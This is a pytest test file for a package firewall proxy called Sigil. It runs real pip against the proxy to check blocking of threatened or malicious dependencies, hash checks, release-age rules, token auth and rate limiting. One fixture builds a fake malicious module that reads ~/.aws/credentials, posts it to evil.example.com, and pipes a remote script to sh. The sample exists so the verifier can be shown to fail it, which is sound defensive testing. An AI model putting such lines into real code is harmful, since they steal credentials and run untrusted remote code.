"""The real pip (the test venv's) against the proxy on a live server, with the fake upstream on loopback.

Every run is configured on its command line and environment only (no pip.conf is read or written).
"""
import dataclasses
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.constants import TIER_LIMITS, Tier
from firewall.services import firewall_settings_update, install_token_create, install_token_revoke
from marketplace.models import Verification
from tests.fakes.servers import make_wheel
from tests.firewall.conftest import run_pip, wheel_name
from tests.intel.factories import make_threat

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def token(alice):
    return install_token_create(user=alice, name="pip")[1]


def _downloaded(tmp_path) -> list[str]:
    return sorted(p.name for p in (tmp_path / "dl").iterdir()) if (tmp_path / "dl").exists() else []


def test_a_clean_tree_installs_through_the_proxy(live_server, index, token, tmp_path):
    result = run_pip(live_server.url, token, "install", "--target", str(tmp_path / "site"), "app", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "site" / "app.py").exists() and "2.0" in (tmp_path / "site" / "helper.py").read_text()
    fetched = [r["path"] for r in index.requests if r["path"].startswith("/files/")]
    assert sorted(set(fetched)) == ["/files/app-1.0-py3-none-any.whl", "/files/helper-2.0-py3-none-any.whl"]
    # Each file was verified before it was served.
    assert Verification.objects.filter(status="verified").count() == 2


def test_a_threatened_version_is_skipped_for_an_older_one(live_server, index, token, tmp_path):
    make_threat(versions=[("pypi", "helper", "2.0")])
    result = run_pip(live_server.url, token, "download", "-d", str(tmp_path / "dl"), "helper", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _downloaded(tmp_path) == ["helper-1.0-py3-none-any.whl"]
    assert not [r for r in index.requests if r["path"] == f"/files/{wheel_name('helper', '2.0')}"]


def test_a_pinned_threatened_version_fails_naming_sigil_and_the_threat(live_server, index, token, tmp_path):
    threat = make_threat(versions=[("pypi", "helper", "2.0")])
    result = run_pip(live_server.url, token, "download", "-d", str(tmp_path / "dl"), "helper==2.0", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Blocked by Sigil" in output and f"/threats/{threat.reference}" in output, output
    assert _downloaded(tmp_path) == []
    assert not [r for r in index.requests if r["path"] == f"/files/{wheel_name('helper', '2.0')}"]


def test_a_malicious_transitive_dependency_is_blocked(live_server, index, token, tmp_path):
    make_threat(versions=[("pypi", "evil-dep", "1.0")])
    result = run_pip(live_server.url, token, "install", "--target", str(tmp_path / "site"), "uses-evil",
                     tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    # The parent declares the malicious dependency, so its own verification fails it (the marketplace
    # pipeline's dependency check); either way nothing of the tree is installed.
    assert "Blocked by Sigil" in output, output
    assert not (tmp_path / "site" / "uses_evil.py").exists()
    assert not (tmp_path / "site" / "evil_dep.py").exists()
    assert not [r for r in index.requests if r["path"] == f"/files/{wheel_name('evil-dep', '1.0')}"]


def test_a_dependency_failing_verification_is_refused(live_server, index, token, tmp_path, alice):
    # evil-dep's code steals credentials: its first download is verified and fails; its parent passes.
    from django.core.management import call_command

    call_command("load_signature_pack", verbosity=0)
    evil = ("import os, base64, urllib.request\n"
            "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "urllib.request.urlopen('https://evil.example.com/collect', data=data.encode())\n"
            "exec(base64.b64decode('cHJpbnQoMSk='))\n"
            "os.system('curl https://evil.example.com/x.sh | sh')\n")
    index.projects["evil-dep"]["versions"]["1.0"] = {
        wheel_name("evil-dep", "1.0"): make_wheel("evil-dep", "1.0", modules={"evil_dep.py": evil})}
    result = run_pip(live_server.url, token, "install", "--target", str(tmp_path / "site"), "uses-evil",
                     tmp_path=tmp_path)
    output = result.stdout + result.stderr
    verification = Verification.objects.get(source_ref__endswith=wheel_name("evil-dep", "1.0"))
    assert verification.status == "failed", (verification.status, verification.verdict, verification.error)
    assert Verification.objects.get(source_ref__endswith=wheel_name("uses-evil", "1.0")).status == "verified"
    assert result.returncode != 0 and "Blocked by Sigil" in output and verification.public_id in output, output
    assert f"/verifications/{verification.public_id}" in output
    assert not (tmp_path / "site" / "evil_dep.py").exists()


def test_a_hash_mismatch_is_refused(live_server, index, token, tmp_path):
    index.bad_digest.add(wheel_name("lonely", "1.0"))
    result = run_pip(live_server.url, token, "download", "-d", str(tmp_path / "dl"), "lonely", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "does not match the sha256" in output, output
    assert _downloaded(tmp_path) == []


def test_min_release_age_picks_the_older_version(live_server, index, token, tmp_path, alice):
    now = timezone.now()
    index.projects["helper"]["upload_times"] = {
        wheel_name("helper", "1.0"): (now - timedelta(days=30)).isoformat(),
        wheel_name("helper", "2.0"): (now - timedelta(hours=1)).isoformat()}
    firewall_settings_update(user=alice, min_release_age_hours=48)
    result = run_pip(live_server.url, token, "download", "-d", str(tmp_path / "dl"), "helper", tmp_path=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _downloaded(tmp_path) == ["helper-1.0-py3-none-any.whl"]


def test_a_revoked_token_and_no_token_are_refused_with_401(live_server, index, alice, tmp_path):
    token, raw = install_token_create(user=alice)
    install_token_revoke(user=alice, public_id=token.public_id)
    result = run_pip(live_server.url, raw, "download", "-d", str(tmp_path / "dl"), "lonely", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "401 Error, Credentials not correct" in output, output
    # Without credentials (and no terminal to prompt on) pip reports the 401 only in verbose mode.
    result = run_pip(live_server.url, None, "download", "-vv", "-d", str(tmp_path / "dl"), "lonely", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "401 Client Error" in output and "install token is required" in output, output
    assert _downloaded(tmp_path) == []
    assert not [r for r in index.requests if r["path"].startswith("/files/")]



def test_over_the_rate_limit_pip_reports_the_429_naming_sigil(live_server, index, token, tmp_path, monkeypatch):
    monkeypatch.setitem(TIER_LIMITS, Tier.PRO, dataclasses.replace(TIER_LIMITS[Tier.PRO], proxy_requests_per_minute=1))
    # The index page is the minute's one request; the file is refused (pip's default retries would
    # wait out Retry-After, as urllib3 honours it on 429; these runs use --retries 0).
    result = run_pip(live_server.url, token, "download", "-d", str(tmp_path / "dl"), "lonely", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "HTTP error 429" in output, output
    assert "Too Many Requests: Sigil firewall: rate limit of 1 requests a minute on the pro tier" in output, output
    # A refused index page: pip says only "no matching distribution", and the 429 with -vv.
    result = run_pip(live_server.url, token, "download", "-vv", "-d", str(tmp_path / "dl"), "lonely", tmp_path=tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "429 Client Error: Too Many Requests: Sigil firewall" in output, output
    assert _downloaded(tmp_path) == []
    assert not [r for r in index.requests if r["path"].startswith("/files/")]
